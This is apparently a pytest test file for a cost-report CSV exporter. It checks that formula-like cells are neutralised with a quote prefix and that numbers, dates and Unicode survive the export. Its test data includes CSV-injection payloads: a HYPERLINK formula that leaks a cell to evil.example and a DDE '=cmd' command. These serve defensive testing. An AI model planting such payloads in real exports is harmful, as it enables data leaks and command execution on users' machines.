"""CSV export: cells a spreadsheet would run as formulas are neutralised; everything else is untouched."""

import csv
import io

import pandas as pd
import pytest

from finops.export import neutralise, to_csv_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "@SUM(A1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
    "-",
    "=",
]
HARMLESS = ["Amazon Simple Storage Service", "a=b", "1+1", "email@example.com", "", " =1+1", "'=already quoted"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_text_is_prefixed(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_text_is_unchanged(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-3.5, -2, 0, 7, 1e-7, float("nan"), None, True, pd.Timestamp("2026-01-01")])
def test_non_text_values_are_unchanged(value):
    assert neutralise(value) is value


def test_csv_round_trip():
    frame = pd.DataFrame(
        {
            "service": DANGEROUS + HARMLESS[:3],
            "unblended_cost": [-3.5, -0.25, 0.0, 1.5, -1234.5678, 2.0, -1e-6, 3.25, -7.0, 8.0, 9.0, -10.5, 11.0],
            "days": list(range(-6, 7)),
            "estimated": [True, False] * 6 + [True],
        }
    )
    frame["=SUM(A1:A9)"] = "x"  # a header cell is a cell too
    data = to_csv_bytes(frame)
    assert isinstance(data, bytes)

    back = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    assert list(back.columns) == ["service", "unblended_cost", "days", "estimated", "'=SUM(A1:A9)"]
    assert back["service"].tolist() == ["'" + c for c in DANGEROUS] + HARMLESS[:3]
    assert back["unblended_cost"].tolist() == frame["unblended_cost"].tolist()  # numbers untouched
    assert back["days"].tolist() == list(range(-6, 7))
    assert back["estimated"].tolist() == frame["estimated"].tolist()
    # no cell of the file starts a formula
    for col in back.columns:
        if back[col].dtype == object or pd.api.types.is_string_dtype(back[col]):
            assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in back[col]), col
    assert not frame["service"].iloc[0].startswith("'")  # the caller's frame is not modified


def test_csv_mixed_object_column_and_missing_values():
    frame = pd.DataFrame({"note": ["=1+2", 5, None, "ok", -4.5]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), keep_default_na=False, dtype=str)
    assert back["note"].tolist() == ["'=1+2", "5", "", "ok", "-4.5"]


def test_csv_is_utf8():
    frame = pd.DataFrame({"account_name": ["zürich-prod", "東京"], "cost": [1.0, 2.0]})
    data = to_csv_bytes(frame)
    assert "zürich-prod".encode() in data and "東京".encode() in data
    assert pd.read_csv(io.BytesIO(data))["account_name"].tolist() == ["zürich-prod", "東京"]


@pytest.mark.parametrize("cell", ["\r=1+1", 'EC2\r=HYPERLINK("http://evil.example")', "a\r\nb", "x\ny"])
def test_line_breaks_inside_a_cell_never_start_a_row(cell):
    # a spreadsheet treats a bare CR as a row break unless the cell is quoted
    frame = pd.DataFrame({"service": [cell, "S3"], "cost": [1.0, 2.0]})
    data = to_csv_bytes(frame)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 3 and all(len(r) == 2 for r in rows)
    assert pd.read_csv(io.BytesIO(data))["service"].tolist() == [neutralise(cell), "S3"]
    for line in data.decode("utf-8").replace("\r\n", "\n").split("\n"):  # no physical line starts a formula
        assert not line.startswith(("=", "+", "-", "@")), line


def test_amounts_dates_and_estimates_are_written_by_kind():
    from datetime import UTC, date, datetime

    frame = pd.DataFrame(
        {
            "month": [date(2026, 1, 1), date(2026, 2, 1)],
            "unblended_cost": [81116.30680300001, -0.000001],  # floats of micro-units, as the store's reads give
            "impact": [1234.565, None],  # an estimate: to the cent, half-even
            "mom_pct": [float("nan"), 3.14159265],
            "started_at": [datetime(2026, 11, 30, 6, 4, 55, 123, tzinfo=UTC), datetime(2026, 11, 30, 7, 0)],
            "ds": [pd.Timestamp("2026-11-30"), pd.Timestamp("2026-12-01")],
        }
    )
    lines = to_csv_bytes(frame).decode().splitlines()
    assert lines == [
        "month,unblended_cost,impact,mom_pct,started_at,ds",
        "2026-01-01,81116.306803,1234.56,,2026-11-30T06:04:55Z,2026-11-30",
        "2026-02-01,-0.000001,,3.141593,2026-11-30T07:00:00Z,2026-12-01",
    ]
